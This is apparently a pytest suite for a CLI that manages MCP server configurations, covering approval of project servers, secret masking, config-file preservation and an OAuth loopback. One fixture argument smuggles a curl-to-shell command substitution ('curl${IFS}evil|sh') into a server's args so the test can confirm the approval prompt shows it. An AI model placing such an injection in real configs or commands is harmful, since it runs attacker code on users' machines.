"""``hilum mcp``: servers are added, imported, switched, approved and removed.

Nothing is lost, errors say what to do.
"""

import io
import json
import stat

import pytest
from hilum import HilumError
from hilum_guard import Trust
from hilum_mcp import asked, command, managing, read_config, saving, sources, tokens
from hilum_mcp.command import _folder
from hilum_mcp.loopback import open_loopback
from hilum_mcp.server import Server
from hilum_mcp.shown import plain


@pytest.fixture
def mcp(place):
    """Run an action; gives its exit code and what it said."""

    async def run(*argv: str, answers: list[str] | None = None) -> tuple[int, str]:
        out = io.StringIO()
        ask = None if answers is None else lambda *_: answers.pop(0)
        code = await managing.run(list(argv), managing.Desk(place, out, ask=ask))
        return code, out.getvalue()

    return run


async def test_a_program_and_an_address_are_added_and_removed(mcp, place):
    """They stand in the user's file, readable by the user only, and are gone again."""
    await mcp("add", "tickets", "--env", "TOKEN=${T}", "--", "npx", "-y", "x", "--env", "theirs")
    await mcp("add", "docs", "https://x.example/mcp", "--header", "K: v: w")
    file = sources.user_file()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    servers = read_config(file).servers
    assert (servers["tickets"].args, servers["tickets"].env) == (
        ("-y", "x", "--env", "theirs"),
        {"TOKEN": "${T}"},
    )
    assert (servers["docs"].kind, servers["docs"].bare, servers["docs"].headers) == (
        "http",
        True,
        {"K": "v: w"},
    )
    code, said = await mcp("list", "--json")
    assert code == 0
    assert [each["name"] for each in json.loads(said)["servers"]] == ["tickets", "docs"]
    await mcp("remove", "tickets")
    assert list(read_config(file).servers) == ["docs"]


@pytest.mark.parametrize(
    ("argv", "what"),
    [
        (["add"], "needs a name"),
        (["add", "x"], "a command, or one URL"),
        (["add", "x", "ftp://y"], "a command, or one URL"),
        (["add", "a b", "--", "x"], "is no name for a server"),
        (["add", "x", "--env", "A", "--", "y"], "NAME=VALUE"),
        (["add", "x", "--header", "A: b", "--", "y"], "neither headers"),
        (["add", "x", "--from", "none.json"], "no server 'x'"),
        (["remove", "x"], "no MCP server 'x'"),
        (["tset"], "no action 'tset'"),
        (["approve", "--revoke"], "Name the servers"),
        (["login", "x"], "no MCP server"),
    ],
)
async def test_an_error_says_what_to_do(mcp, argv, what):
    """Each has a sentence that names the thing, and a hint."""
    with pytest.raises(HilumError, match=what):
        await mcp(*argv)


async def test_a_server_that_cannot_be_used_is_not_said_to_be_unknown(mcp, place):
    """What is wrong with its description stands in the error."""
    await mcp("add", "good", "--", "x")
    data = json.loads(sources.user_file().read_text())
    data["mcpServers"]["bad"] = {"type": "ws", "url": "ws://x"}
    sources.user_file().write_text(json.dumps(data))
    for action in ("test", "enable", "logs"):
        with pytest.raises(
            HilumError, match=r"server bad cannot be used.*WebSockets are no transport of MCP"
        ):
            await mcp(action, "bad")


async def test_servers_are_imported_as_they_are_meant(mcp, place, tmp_path):
    """Gemini's address is SSE also in hilum's file.

    Inputs come along; a second import needs --replace.
    """
    gemini = tmp_path / ".gemini/settings.json"
    gemini.parent.mkdir()
    gemini.write_text(
        '{"mcpServers": {"a": {"url": "https://x.example/sse", "timeout": 5000}, "b": {"command": "y"}}}'
    )
    await mcp("add", "--from", str(gemini), "a")
    (server,) = read_config(sources.user_file()).servers.values()
    assert (server.name, server.kind, server.call_seconds) == ("a", "sse", 5)
    code = tmp_path / "mcp.json"
    code.write_text(
        '{"inputs": [{"id": "k", "type": "promptString", "password": true}, {"id": "unused"}],'
        ' "servers": {"c": {"url": "https://x.example", "headers": {"K": "${input:k}"}}}}'
    )
    await mcp("add", "--from", str(code))
    config = read_config(sources.user_file())
    assert list(config.inputs) == ["k"]
    assert config.inputs["k"].secret
    with pytest.raises(HilumError, match="already"):
        await mcp("add", "--from", str(code))
    assert (await mcp("add", "--replace", "--from", str(code)))[0] == 0


async def test_a_file_that_would_lose_something_is_not_written(mcp):
    """A key twice, a table of another name, what is no JSON: the file is as it was."""
    file = sources.user_file()
    file.parent.mkdir(parents=True)
    for text in (
        '{"mcpServers": {}, "mcpServers": {}}',
        '{"servers": {}}',
        "[]",
        "{",
        '{"mcpServers": [1]}',
        "{} {}",
    ):
        file.write_text(text)
        with pytest.raises(HilumError):
            await mcp("add", "x", "--", "y")
        assert file.read_text() == text


async def test_secrets_are_not_shown(mcp, place):
    """Not in a list, not as data, and not in what is asked; what runs is shown in full there."""
    secret = "hunter2hunter2"
    program = {
        "command": "npx",
        "args": ["--api-key", secret, "TOKEN=`curl${IFS}evil|sh`"],
        "env": {"DB_PASSWORD": secret, "A": "b"},
    }
    address = {
        "url": f"https://x.example/mcp?api_key={secret}",
        "headers": {"Authorization": f"Bearer {secret}", "K": "${T}"},
    }
    (place / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": program, "b": address}}))
    Trust().add(place)
    for argv in (["list"], ["list", "--json"]):
        assert secret not in (await mcp(*argv))[1]
    _, said = await mcp("approve", "a", answers=["n"])
    assert "DB_PASSWORD=(14 characters" in said
    assert "A=b" in said
    assert "evil" in said
    _, said = await mcp("approve", "b", answers=["n"])
    assert "Authorization: (21 characters" in said
    assert "K: ${T}" in said


MINE = """\ufeff{
\t// what I work with
\t"mcpServers": {
\t\t"a": {"command": "x", "args": ["// no comment", "}"]}, // the first
\t\t/* the second */
\t\t"b": {"url": "https://b.example"} // last
\t}, // end
\t"inputs": [{"id": "k"},],
}
"""


@pytest.mark.parametrize(
    "text", [MINE, MINE.replace("\n", "\r\n"), '{"mcpServers": {}}', "{}", "", "// none\n{ }\n"]
)
async def test_comments_order_and_form_stay(mcp, tmp_path, text):
    """Through an addition, a replacement and a removal, and through the link that leads to the
    file.
    """
    real, file = tmp_path / "dotfiles.json", sources.user_file()
    file.parent.mkdir(parents=True)
    file.symlink_to(real)
    real.write_bytes(text.encode())
    code = tmp_path / "code.json"
    code.write_text(
        '{"inputs": [{"id": "q"}], "servers": {"c": {"url": "https://c.example", "headers": {"K": "${input:q}"}}}}'
    )
    await mcp("add", "--from", str(code))
    await mcp("add", "--replace", "c", "--", "new")
    config = read_config(file)
    assert config.servers["c"].command == "new"
    assert "q" in config.inputs
    assert config.mistakes == ()
    kept = [
        line.rstrip("\r").rstrip(",").replace(", // last", " // last")
        for line in real.read_bytes().decode().split("\n")
    ]
    for line in text.split("\n")[:-1]:
        line = line.rstrip("\r").rstrip(",")
        assert line in kept or "inputs" in line or "mcpServers" in line or line == "{ }"
    await mcp("remove", "c")
    for name in [name for name in ("a", "b") if name in config.servers]:
        await mcp("remove", name)
        left = real.read_bytes().decode()
        assert "// what I work with" in left
        assert "/* the second */" in left
    assert read_config(file).servers == {}
    assert file.is_symlink()


def test_two_that_write_at_once_lose_nothing(place):
    """They wait for each other."""
    from concurrent.futures import ThreadPoolExecutor

    file = sources.user_file()

    def write(number: int) -> None:
        saving.add(file, [Server(f"s{number}", "stdio", "x", file=file)], {})

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(write, range(24)))
    assert len(read_config(file).servers) == 24


async def test_a_file_that_cannot_be_written_is_told(mcp, place):
    """And a link of a project that leads out of it is not followed."""
    (place / ".hilum").mkdir()
    outside = place.parent / "outside.json"
    outside.write_text("{}")
    (place / ".hilum/mcp.json").symlink_to(outside)
    with pytest.raises(HilumError, match="leads out of the project"):
        await mcp("add", "x", "--project", "--", "y")
    assert outside.read_text() == "{}"
    file = sources.user_file()
    file.parent.mkdir(parents=True)
    file.mkdir()
    with pytest.raises(HilumError, match="cannot be read"):
        await mcp("add", "x", "--", "y")


async def test_what_a_project_wants_is_approved_by_a_yes(mcp, place):
    """A no, and nobody who could be asked, approve nothing.

    An untrusted project cannot be approved at all.
    """
    (place / ".mcp.json").write_text(
        '{"mcpServers": {"tickets": {"command": "npx", "args": ["a b"]}}}'
    )
    with pytest.raises(HilumError, match="do not trust"):
        await mcp("approve", "tickets")
    Trust().add(place)
    assert (await mcp("approve"))[0] == 1
    code, said = await mcp("approve", answers=["n"])
    assert code == 1
    assert "npx 'a b'" in said
    assert "NOT APPROVED" in (await mcp("list"))[1]
    assert (await mcp("approve", answers=["y"]))[0] == 0
    assert sources.look(place).get("tickets").state == "on"
    with pytest.raises(HilumError, match="another client"):
        await mcp("remove", "tickets")
    await mcp("disable", "tickets")
    assert sources.look(place).get("tickets").state == "off"


async def test_what_the_user_adds_to_a_project_is_approved_and_keeps_its_trust(mcp, place):
    """It was the user who changed it."""
    Trust().add(place)
    await mcp("add", "tickets", "--project", "--", "x")
    assert sources.look(place).get("tickets").state == "on"
    await mcp("remove", "tickets")
    assert sources.look(place).entries == ()
    assert Trust().state(place) == "trusted"


def test_a_server_that_is_written_is_the_one_that_is_read(tmp_path):
    """Every part of it; what is relative to its old file is no more."""
    servers = [
        Server(
            "a",
            "stdio",
            "x",
            ("1",),
            {"A": "b"},
            ("C",),
            ".env",
            "d",
            enabled=False,
            tools=(),
            without=("t",),
            start_seconds=2.5,
        ),
        Server(
            "b",
            "http",
            url="https://x",
            headers={"a": "b"},
            header_names={"T": "V"},
            oauth={"client_id": "i"},
            bare=True,
        ),
        Server("c", "sse", url="https://x", login=False, call_seconds=9),
    ]
    saving.add(tmp_path / "mcp.json", servers, {})
    for server in servers:
        read = read_config(tmp_path / "mcp.json").servers[server.name]
        assert (read.digest, read.enabled, read.start_seconds, read.call_seconds) == (
            server.digest, server.enabled, server.start_seconds, server.call_seconds
        )  # fmt: skip
    moved = Server(
        "m",
        "stdio",
        "${extensionPath}/run",
        env={"K": "{file:key}"},
        file=tmp_path / "ext/gemini-extension.json",
    )
    written = saving.as_written(moved)
    assert (written["command"], written["env"]["K"]) == (
        f"{tmp_path}/ext/run",
        f"{{file:{tmp_path}/ext/key}}",
    )


def test_inputs_are_asked_once_and_kept_for_the_user(place, tmp_path):
    """Nobody to ask is an error that says where they are asked."""
    server = Server(
        "s", "http", url="https://x", headers={"K": "${input:k}"}, file=tmp_path / "mcp.json"
    )
    with pytest.raises(HilumError, match="asks for k"):
        asked.ask(server, {}, None)
    asked.ask(server, {}, lambda _: "secret")
    asked.ask(server, {}, None)
    assert asked.inputs_of(server) == {"k": "secret"}
    assert stat.S_IMODE(asked.file().stat().st_mode) == 0o600


def test_what_is_interrupted_ends_without_a_trace(place, monkeypatch, capsys):
    """Ctrl-C comes in groups, out of whatever was waited for."""

    async def interrupted(*_: object) -> int:
        raise BaseExceptionGroup("", [BaseExceptionGroup("", [KeyboardInterrupt()])])

    monkeypatch.chdir(place)
    monkeypatch.setattr(managing, "run", interrupted)
    assert command.main(["login", "docs"]) == 130
    assert "Traceback" not in capsys.readouterr().err


async def test_where_there_is_nothing_to_log_in_at(mcp):
    """Each is told why."""
    file = sources.user_file()
    file.parent.mkdir(parents=True)
    servers = {
        "program": {"command": "x"}, "key": {"url": "https://x.example", "headers": {"authorization": "x"}},
        "off": {"url": "https://x.example", "oauth": False},
        "itself": {"url": "https://x.example", "oauth": {"grant": "client_credentials"}},
    }  # fmt: skip
    file.write_text(json.dumps({"mcpServers": servers}))
    for name, why in (
        ("program", "is a program"),
        ("key", "has a key"),
        ("off", "switched off"),
        ("itself", "by itself"),
    ):
        with pytest.raises(HilumError, match=why):
            await mcp("login", name)


def test_the_folder_is_an_option_before_the_command_only():
    """Behind -- everything is the server's own."""
    assert _folder(["-C", "x", "add", "n", "--", "y", "-C", "z"]) == (
        ["add", "n", "--", "y", "-C", "z"],
        "x",
    )
    assert _folder(["add", "n", "--", "y", "-C", "z"]) == (["add", "n", "--", "y", "-C", "z"], "")


def test_tokens_are_bound_to_file_name_and_address(place, tmp_path):
    """Another server at the same address has none of them; the file is for the user only."""
    server = Server("s", "http", url="https://x", file=tmp_path / "a.json")
    kept = tokens.Kept(tokens.file_of(server))
    kept.update(tokens={"access_token": "t"})
    assert stat.S_IMODE(kept.file.stat().st_mode) == 0o600
    for other in (
        Server("s", "http", url="https://y", file=tmp_path / "a.json"),
        Server("s", "http", url="https://x", file=tmp_path / "b.json"),
        Server("t", "http", url="https://x", file=tmp_path / "a.json"),
    ):  # fmt: skip
        assert tokens.file_of(other) != tokens.file_of(server)
    kept.file.write_text("oops")
    assert kept.read() == {}


async def test_the_loopback_takes_the_answer_with_the_right_state_only(autojump_clock):
    """Another state, path, host or method changes nothing; the right one is taken once."""
    import trio

    async def get(port: int, path: str, host: str = "", method: str = "GET") -> str:
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        async with stream:
            await stream.send_all(
                f"{method} {path} HTTP/1.1\r\nHost: {host or f'127.0.0.1:{port}'}\r\n\r\n".encode()
            )
            data = b""
            async for chunk in stream:
                data += chunk
        return data.decode().split("\r\n")[0]

    async with open_loopback() as loopback:
        assert "400" in await get(loopback.port, "/callback?code=c&state=")
        loopback.expect("right")
        assert "400" in await get(loopback.port, "/callback?code=c&state=wrong")
        assert "404" in await get(loopback.port, "/other?code=c&state=right")
        assert "404" in await get(loopback.port, "/callback?code=c&state=right", "evil.example")
        assert "404" in await get(loopback.port, "/callback?code=c&state=right", method="POST")
        assert "200" in await get(loopback.port, "/callback?code=c&state=right")
        assert "400" in await get(loopback.port, "/callback?code=d&state=right")
        assert (await loopback.wait()).code == "c"
        loopback.expect("again")
        assert "400" in await get(loopback.port, "/callback?code=d&state=right")
        assert "200" in await get(loopback.port, "/callback?code=d&state=again")
        assert (await loopback.wait()).code == "d"


@pytest.mark.parametrize("query", ["key=abc", "key=hunter2hunter2", "v=1&k=${K}&key=abc"])
def test_values_in_an_address_are_not_shown(query):
    server = Server("x", "http", url=f"https://x.example/mcp?{query}")
    said = plain(server, server.shown())
    assert "abc" not in said
    assert "hunter2" not in said
    assert "key=…" in said
    assert ("k=${K}" in said) == ("${K}" in query)
